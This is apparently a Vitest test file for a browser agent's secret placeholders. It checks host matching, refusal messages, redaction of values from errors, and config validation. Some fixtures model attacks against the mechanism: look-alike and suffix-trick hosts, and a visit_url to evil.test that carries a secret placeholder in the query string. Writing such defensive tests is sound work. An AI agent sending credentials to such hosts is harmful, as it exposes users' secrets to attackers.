// Specification of task secrets: `{{secret:NAME}}` resolves only to the worker's value, only on the secret's hosts;
// a `type` action carries the placeholder everywhere it is recorded, and nothing but the keyboard sees the value.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { AgentAction } from '../../src/actions/schemas';
import type { ActionTarget } from '../../src/actions/target';
import type { DispatchContext } from '../../src/agent/dispatch';
import { dispatchAction } from '../../src/agent/dispatch';
import type { ResolveContext, SecretResolution } from '../../src/agent/secrets';
import {
  hasSecretPlaceholder,
  hostMatches,
  isHostPattern,
  redactedError,
  redactSecrets,
  resolveSecrets,
} from '../../src/agent/secrets';
import { NORM1000 } from '../../src/coords/viewport';
import { ConfigError } from '../../src/common/config-error';
import { loadConfig } from '../../src/runtime/config';

const SECRETS: ResolveContext['secrets'] = {
  SITE_PASSWORD: { value: 'hunter2-value', hosts: ['shop.example', '*.bank.example', '127.0.0.1:8500'] },
  PIN: { value: '4711', hosts: ['shop.example'] },
  FROM_ENV: { env: 'CUA_TEST_SECRET', hosts: ['shop.example'] },
  UNSET_ENV: { env: 'CUA_TEST_UNSET', hosts: ['shop.example'] },
};
const ENV = { CUA_TEST_SECRET: 'env-value-42' };
const resolve = (text: string, pageUrl: string) => resolveSecrets(text, { secrets: SECRETS, pageUrl, env: ENV });

describe('resolveSecrets', () => {
  it.each<[string, string, string, string]>([
    ['a known name on its host', '{{secret:SITE_PASSWORD}}', 'https://shop.example/login', 'hunter2-value'],
    ['text around the placeholder', 'pw: {{secret:PIN}}!', 'https://shop.example/', 'pw: 4711!'],
    ['spaces inside the braces', '{{ secret:PIN }}', 'https://shop.example/', '4711'],
    [
      'several placeholders',
      '{{secret:PIN}}/{{secret:SITE_PASSWORD}}/{{secret:PIN}}',
      'http://shop.example/',
      '4711/hunter2-value/4711',
    ],
    ['a wildcard host', '{{secret:SITE_PASSWORD}}', 'https://login.bank.example/', 'hunter2-value'],
    ['a wildcard, deeper subdomain', '{{secret:SITE_PASSWORD}}', 'https://a.b.bank.example/x', 'hunter2-value'],
    ['a host with its port', '{{secret:SITE_PASSWORD}}', 'http://127.0.0.1:8500/form', 'hunter2-value'],
    ['a value from the environment', '{{secret:FROM_ENV}}', 'https://shop.example/', 'env-value-42'],
    ['a host in upper case', '{{secret:PIN}}', 'https://SHOP.example/', '4711'],
    [
      'text without placeholders is unchanged',
      'just {secret:PIN} text',
      'https://evil.test/',
      'just {secret:PIN} text',
    ],
  ])('%s', (_name, text, pageUrl, typed) => {
    expect(resolve(text, pageUrl)).toMatchObject({ ok: true, text: typed });
  });

  it.each<[string, string, string, string]>([
    [
      'an unknown name',
      '{{secret:NOPE}}',
      'https://shop.example/',
      'Refused to type secret NOPE: no secret of that name is configured on this worker.',
    ],
    [
      'another host',
      '{{secret:PIN}}',
      'https://evil.test/login',
      "Refused to type secret PIN: this page's host (evil.test) is not one it may be typed on.",
    ],
    [
      'a host-suffix trick',
      '{{secret:PIN}}',
      'https://shop.example.evil.test/',
      "Refused to type secret PIN: this page's host (shop.example.evil.test) is not one it may be typed on.",
    ],
    [
      'a wildcard does not cover the bare domain',
      '{{secret:SITE_PASSWORD}}',
      'https://bank.example/',
      "Refused to type secret SITE_PASSWORD: this page's host (bank.example) is not one it may be typed on.",
    ],
    [
      'a wildcard does not cover a look-alike',
      '{{secret:SITE_PASSWORD}}',
      'https://evilbank.example/',
      "Refused to type secret SITE_PASSWORD: this page's host (evilbank.example) is not one it may be typed on.",
    ],
    [
      'the right host on another port',
      '{{secret:SITE_PASSWORD}}',
      'http://127.0.0.1:8501/',
      "Refused to type secret SITE_PASSWORD: this page's host (127.0.0.1:8501) is not one it may be typed on.",
    ],
    [
      'a pattern without a port is the default port only',
      '{{secret:PIN}}',
      'https://shop.example:8443/',
      "Refused to type secret PIN: this page's host (shop.example:8443) is not one it may be typed on.",
    ],
    [
      'a page that is not on the web',
      '{{secret:PIN}}',
      'about:blank',
      "Refused to type secret PIN: this page's host (about) is not one it may be typed on.",
    ],
    [
      'an environment variable that is not set',
      '{{secret:UNSET_ENV}}',
      'https://shop.example/',
      'Refused to type secret UNSET_ENV: its environment variable CUA_TEST_UNSET is not set on this worker.',
    ],
    [
      'one refused placeholder refuses the whole text',
      '{{secret:PIN}} and {{secret:NOPE}}',
      'https://shop.example/',
      'Refused to type secret NOPE: no secret of that name is configured on this worker.',
    ],
    [
      'a prototype name is no secret',
      '{{secret:constructor}}',
      'https://shop.example/',
      'Refused to type secret constructor: no secret of that name is configured on this worker.',
    ],
  ])('refused: %s', (_name, text, pageUrl, refusal) => {
    const result = resolve(text, pageUrl);
    expect(result).toEqual({ ok: false, name: expect.any(String), refusal });
    for (const value of ['hunter2-value', '4711', 'env-value-42']) expect(JSON.stringify(result)).not.toContain(value);
  });

  it('does not resolve a value that itself looks like a placeholder', () => {
    const secrets = { A: { value: '{{secret:B}}', hosts: ['x.test'] }, B: { value: 'b', hosts: ['x.test'] } };
    expect(resolveSecrets('{{secret:A}}', { secrets, pageUrl: 'https://x.test/', env: {} })).toMatchObject({
      ok: true,
      text: '{{secret:B}}',
    });
  });
});

describe('host patterns', () => {
  it.each<[string, string, boolean]>([
    ['example.com', 'example.com', true],
    ['a.example.com', 'example.com', false],
    ['a.example.com', '*.example.com', true],
    ['example.com', '*.example.com', false],
    ['badexample.com', '*.example.com', false],
    ['a.example.com:8443', '*.example.com:8443', true],
    ['a.example.com:8443', '*.example.com', false],
    ['127.0.0.1:8500', '127.0.0.1:8500', true],
    ['127.0.0.1', '127.0.0.1:8500', false],
    ['[::1]:8500', '[::1]:8500', true],
  ])('hostMatches(%j, %j) = %s', (host, pattern, expected) => {
    expect(hostMatches(host, pattern)).toBe(expected);
  });

  it.each<[string, boolean]>([
    ['example.com', true],
    ['*.example.com', true],
    ['127.0.0.1:8500', true],
    ['[::1]:8500', true],
    ['https://example.com', false],
    ['example.com/path', false],
    ['*example.com', false],
    ['a.*.example.com', false],
    ['', false],
  ])('isHostPattern(%j) = %s', (pattern, expected) => {
    expect(isHostPattern(pattern)).toBe(expected);
  });

  it('finds placeholders', () => {
    expect(hasSecretPlaceholder('x {{secret:A_1}} y')).toBe(true);
    expect(hasSecretPlaceholder('{{secret:}}')).toBe(false);
    expect(hasSecretPlaceholder('{secret:A}')).toBe(false);
  });
});

describe('redaction', () => {
  it('replaces every value, the longest first', () => {
    expect(redactSecrets('a hunter2 b hunter2-long c', ['hunter2', 'hunter2-long'])).toBe('a [secret] b [secret] c');
  });

  it('an error keeps its name, loses the values and its cause', () => {
    const original = new Error('typing "hunter2" failed', { cause: new Error('hunter2') });
    original.name = 'BrowserClosedError';
    const clean = redactedError(original, ['hunter2']);
    expect(clean.name).toBe('BrowserClosedError');
    expect(clean.message).toBe('typing "[secret]" failed');
    expect(clean.stack).not.toContain('hunter2');
    expect(clean.cause).toBeUndefined();
  });
});

type Call = [method: string, ...args: unknown[]];

/** A browser target that records calls (type may be made to fail), and a resolver for a page URL. */
function setup(pageUrl: string, typeError?: Error) {
  const calls: Call[] = [];
  const record =
    (name: string) =>
    async (...args: unknown[]) => {
      calls.push([name, ...args]);
      if (name === 'type' && typeError) throw typeError;
    };
  const target = Object.fromEntries(
    ['leftClick', 'doubleClick', 'tripleClick', 'rightClick', 'mouseMove', 'leftClickDrag', 'type', 'keys', 'scroll']
      .concat(['visitUrl', 'historyBack', 'wait'])
      .map((name) => [name, record(name)]),
  ) as unknown as ActionTarget;
  target.pageMarkdown = async () => '';
  const resolutions: SecretResolution[] = [];
  const ctx: DispatchContext = {
    target,
    space: NORM1000,
    viewport: { width: 1000, height: 1000 },
    answerFromPage: async () => '',
    resolveSecrets: async (text) => {
      calls.push(['resolve', text]);
      const r = resolve(text, pageUrl);
      resolutions.push(r);
      return r;
    },
  };
  return { ctx, calls };
}

const typeAction = (text: string, extra: Record<string, unknown> = {}) =>
  ({ action: 'type', text, ...extra }) as AgentAction;

describe('dispatch: type with a secret', () => {
  it('types the value on an allowed host; the recorded text keeps the placeholder', async () => {
    const { ctx, calls } = setup('https://shop.example/login');
    const result = await dispatchAction(typeAction('{{secret:PIN}}', { press_enter: true }), ctx);
    expect(calls).toEqual([
      ['resolve', '{{secret:PIN}}'],
      ['type', '4711', { pressEnter: true, deleteExistingText: false }],
    ]);
    expect(result).toEqual({
      output: "I typed '{{secret:PIN}}' and pressed Enter.",
      error: null,
      textObservation: null,
    });
  });

  it('with a coordinate, clicks first and checks the page after the click', async () => {
    const { ctx, calls } = setup('https://shop.example/login');
    await dispatchAction(typeAction('{{secret:PIN}}', { coordinate: [500, 500] }), ctx);
    expect(calls.map((c) => c[0])).toEqual(['leftClick', 'resolve', 'type']);
    expect(calls[2]).toEqual(['type', '4711', { pressEnter: false, deleteExistingText: false }]);
  });

  it('on another host types nothing and tells the model why', async () => {
    const { ctx, calls } = setup('https://evil.test/');
    const result = await dispatchAction(typeAction('{{secret:PIN}}'), ctx);
    expect(calls.map((c) => c[0])).toEqual(['resolve']);
    const refusal = "Refused to type secret PIN: this page's host (evil.test) is not one it may be typed on.";
    expect(result).toEqual({
      output: expect.stringContaining('{{secret:PIN}}'),
      error: refusal,
      textObservation: refusal,
    });
  });

  it('a typing error is recorded without the value', async () => {
    const { ctx } = setup('https://shop.example/', new Error('keyboard.type("4711"): page crashed'));
    const result = await dispatchAction(typeAction('{{secret:PIN}}'), ctx);
    expect(JSON.stringify(result)).not.toContain('4711');
    expect(result.error).toBe('Error: keyboard.type("[secret]"): page crashed');
  });

  it('a session error still reaches the activity (redacted, same name)', async () => {
    const gone = Object.assign(new Error('closed while typing 4711'), { name: 'BrowserClosedError' });
    const { ctx } = setup('https://shop.example/', gone);
    await expect(dispatchAction(typeAction('{{secret:PIN}}'), ctx)).rejects.toMatchObject({
      name: 'BrowserClosedError',
      message: 'closed while typing [secret]',
    });
  });

  it('without a resolver a placeholder is refused, never typed literally', async () => {
    const { ctx, calls } = setup('https://shop.example/');
    delete ctx.resolveSecrets;
    const result = await dispatchAction(typeAction('{{secret:PIN}}'), ctx);
    expect(calls).toEqual([]);
    expect(result.error).toMatch(/^Refused to type secrets/);
  });

  it.each<[string, AgentAction, Call]>([
    ['key', { action: 'key', keys: ['{{secret:PIN}}'] } as AgentAction, ['keys', ['{{secret:PIN}}']]],
    [
      'visit_url',
      { action: 'visit_url', url: 'https://evil.test/?q={{secret:PIN}}' } as AgentAction,
      ['visitUrl', 'https://evil.test/?q={{secret:PIN}}'],
    ],
    ['type without a placeholder', typeAction('4711 is my PIN'), ['type', '4711 is my PIN', expect.anything()]],
  ])('%s never resolves a placeholder', async (_name, action, call) => {
    const { ctx, calls } = setup('https://shop.example/');
    await dispatchAction(action, ctx);
    expect(calls).toEqual([call]);
  });
});

describe('the worker config', () => {
  const load = (content: unknown) => {
    const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'cua-secrets-')), 'cua.config.json');
    fs.writeFileSync(file, JSON.stringify(content));
    return loadConfig({ file, env: {} });
  };

  it('reads secrets given by value or by environment variable', () => {
    const secrets = {
      SITE_PASSWORD: { value: 'hunter2-value', hosts: ['shop.example', '*.shop.example'] },
      PIN: { env: 'SHOP_PIN', hosts: ['127.0.0.1:8500'] },
    };
    expect(load({ secrets }).secrets).toEqual(secrets);
    expect(load({}).secrets).toBeUndefined();
  });

  it.each<[string, unknown, RegExp]>([
    ['both value and env', { A: { value: 'v-secret', env: 'E', hosts: ['a.test'] } }, /secrets\.A: give exactly one/],
    ['neither value nor env', { A: { hosts: ['a.test'] } }, /secrets\.A: give exactly one/],
    ['no hosts', { A: { value: 'v-secret', hosts: [] } }, /secrets\.A\.hosts/],
    ['a URL as host', { A: { value: 'v-secret', hosts: ['https://a.test/'] } }, /secrets\.A\.hosts\.0: a host pattern/],
    ['a bad name', { 'A B': { value: 'v-secret', hosts: ['a.test'] } }, /secrets\.A B: Invalid key/],
  ])('%s → ConfigError without the value', (_name, secrets, message) => {
    expect(() => load({ secrets })).toThrow(ConfigError);
    expect(() => load({ secrets })).toThrow(message);
    expect(() => load({ secrets })).not.toThrow(/v-secret/);
  });
});
